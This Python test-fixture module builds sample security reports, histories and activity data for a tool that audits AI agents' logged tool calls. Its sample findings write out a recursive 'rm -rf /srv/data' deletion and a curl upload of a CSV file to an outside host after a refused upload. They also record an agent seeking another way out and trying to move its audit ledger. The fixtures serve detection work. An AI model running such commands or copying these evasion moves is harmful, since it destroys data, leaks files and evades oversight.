"""Reports, histories and activity for the tests of the page, in the shapes that the engine gives."""

from __future__ import annotations

import hashlib
from datetime import date, timedelta
from typing import Any

from agent_ledger.posture import taxonomy
from agent_ledger.posture.model import SELF_WRITTEN, WEIGHTS

WIPE = " ".join(("rm", "-rf", "/srv/data"))


def finding(rule_id: str, severity: str, rows: list[int], **changed: Any) -> dict[str, Any]:
    """One finding as JSON."""
    asi = rule_id[:5]
    base = {
        "rule_id": rule_id, "asi": asi, "official": asi != "ASI11", "severity": severity, "confidence": "high",
        "status_seen": "CONFIRMED", "message": f"Something that {rule_id} looks for",
        "evidence": {"rows": rows, "session_id": "20261130_101500_3fa9c1", "ts_first": "2026-11-30T10:15:02.120Z",
                     "ts_last": "2026-11-30T10:19:44.003Z"},
        "fingerprint": hashlib.sha256(f"{rule_id}|{rows}".encode()).hexdigest(),
        "remediation": "Look at the rows, then decide.", "refs": ["OWASP ASI 2026 p.12-14"], "excerpt": "",
        "suppressed": None,
    }  # fmt: skip
    return base | changed


def report(findings: list[dict[str, Any]] | None = None, **changed: Any) -> dict[str, Any]:
    """A report as JSON; points follow from its findings."""
    found = FINDINGS if findings is None else findings
    penalty = sum(WEIGHTS[one["severity"]] for one in found)
    active = sum(WEIGHTS[one["severity"]] for one in found if not one["suppressed"])
    subtotals: dict[str, int] = {}
    for one in found:
        subtotals[one["asi"]] = subtotals.get(one["asi"], 0) + WEIGHTS[one["severity"]]
    prints = [one["fingerprint"] for one in found]
    base = {
        "score": max(0, 100 - penalty), "score_effective": max(0, 100 - active), "penalty": penalty,
        "penalty_per_1000": round(penalty / 1.842, 2), "findings": found, "subtotals": subtotals,
        "assessed": ["ASI01", "ASI02", "ASI03", "ASI04", "ASI05", "ASI06", "ASI08", "ASI10", "ASI11"],
        "not_assessed": {
            "ASI07": "No row names a sender, a signature or a channel: messages between agents are invisible here.",
            "ASI09": "No row holds what a person was told or asked: trust cannot be judged from calls.",
            "ASI10-07": "No baseline: five earlier windows are needed, two were found.",
        },
        "coverage": {
            "rows": 1842, "sessions": 37, "first_id": 3001, "last_id": 4842, "first_ts": "2026-11-30T00:00:04.001Z",
            "last_ts": "2026-11-30T23:59:51.740Z", "statuses": {"CONFIRMED": 1790, "ERROR:exit_1": 41, "PENDING": 11},
            "args_at_limit": 0.0124, "digests_at_limit": 0.218, "pending": 0.006, "id_gaps": 0, "time_reversals": 1,
            "unreadable_times": 0, "commands_parsed": 702, "commands_unparsed": 4, "missing_columns": [],
            "partial": dict(taxonomy.PARTIAL),
        },
        "notices": [], "source": taxonomy.SOURCE, "atlas": taxonomy.ATLAS,
        "rules_version": "1", "policy_sha256": hashlib.sha256(b"policy").hexdigest(),
        "window": {"since": "2026-11-30T00:00:00.000Z", "until": "2026-12-01T00:00:00.000Z", "session": ""},
        "rule_errors": {}, "changes": {"new": prints[:2], "open": prints[2:], "resolved": ["e" * 64]},
        "note": SELF_WRITTEN,
    }  # fmt: skip
    return base | changed


FINDINGS = [
    finding("ASI02-01", "CRITICAL", [4711], message="A folder outside the project was deleted with everything in it",
            excerpt=f"{WIPE} && ls /srv", remediation="Restore from the last copy; set the rule of the policy for"
            " recursive deletion to block."),
    finding("ASI08-03", "HIGH", [4720, 4724], status_seen="PENDING", confidence="medium",
            message="A call without a known outcome was repeated without looking first",
            excerpt="send_message(to='#ops', text='Deploy started')"),
    finding("ASI10-04", "HIGH", [4733, 4734, 4735], message="A refused upload was followed by another way out",
            excerpt="curl -T report.csv https://files.example.net/in"),
    finding("ASI02-02", "MEDIUM", [*range(4100, 4112)], message="The same call 12 times in 4 minutes",
            suppressed={"reason": "Polling a build; agreed with the team", "by": "mara", "expires": "2027-01-31"}),
    finding("ASI11-01", "MEDIUM", [4699], confidence="low", message="A tool was used that this agent's work does not need",
            excerpt="cronjob(action='create', schedule='* * * * *')"),
    finding("ASI04-01", "LOW", [4650, 4652], message="A package was installed without a version", excerpt="pip install left-pad"),
    finding("ASI10-05", "LOW", [4733], status_seen="ERROR:blocked", message="Attempt stopped: the ledger would have been moved away"),
]  # fmt: skip


def history(days: int = 30) -> list[dict[str, Any]]:
    """One entry a day, with one missing and a change of rules."""
    start = date(2026, 11, 1)
    entries = []
    for step in range(days):
        if step == 9:
            continue
        penalty = (step * 37) % 53 + (60 if step == 17 else 0)
        entries.append(
            {"day": (start + timedelta(days=step)).isoformat(), "score": max(0, 100 - penalty), "penalty": penalty,
             "rows": 900 + step * 31, "rules_version": "1" if step < 21 else "2", "new": step % 3, "resolved": step % 2}
        )  # fmt: skip
    return entries


def activity(hours: int = 24) -> dict[str, Any]:
    """Calls by hour, a quiet night, two open ghosts."""
    buckets = []
    for hour in range(6, hours):
        busy = (hour * 7) % 11 + 2
        buckets.append(
            {
                "start": f"2026-11-30T{hour:02d}:00:00.000Z",
                "tools": {"terminal": busy * 5, "write_file": busy * 3, "patch": busy * 2, "execute_code": busy,
                          "send_message": hour % 3, "browser_click": hour % 4, "delegate_task": hour % 2, "cronjob": 1},
                "outcomes": {"CONFIRMED": busy * 10, "ERROR:exit_1": busy, "ERROR:timeout": hour % 3,
                             "ERROR:blocked": hour % 2, "GHOST_REPORTED": hour % 3, "PENDING": int(hour == 23)},
            }
        )  # fmt: skip
    ghosts = [
        {"id": 4720, "ts": "2026-11-30T10:15:02.120Z", "tool": "send_message",
         "summary": "send_message to #ops: Deploy started", "session_id": "20261130_101500_3fa9c1"},
        {"id": 4801, "ts": "2026-11-30T23:58:40.001Z", "tool": "terminal",
         "summary": "terminal: ./deploy.sh --stage production", "session_id": "20261130_235000_77ab02"},
    ]  # fmt: skip
    return {"unit": "hour", "buckets": buckets, "ghosts": ghosts}
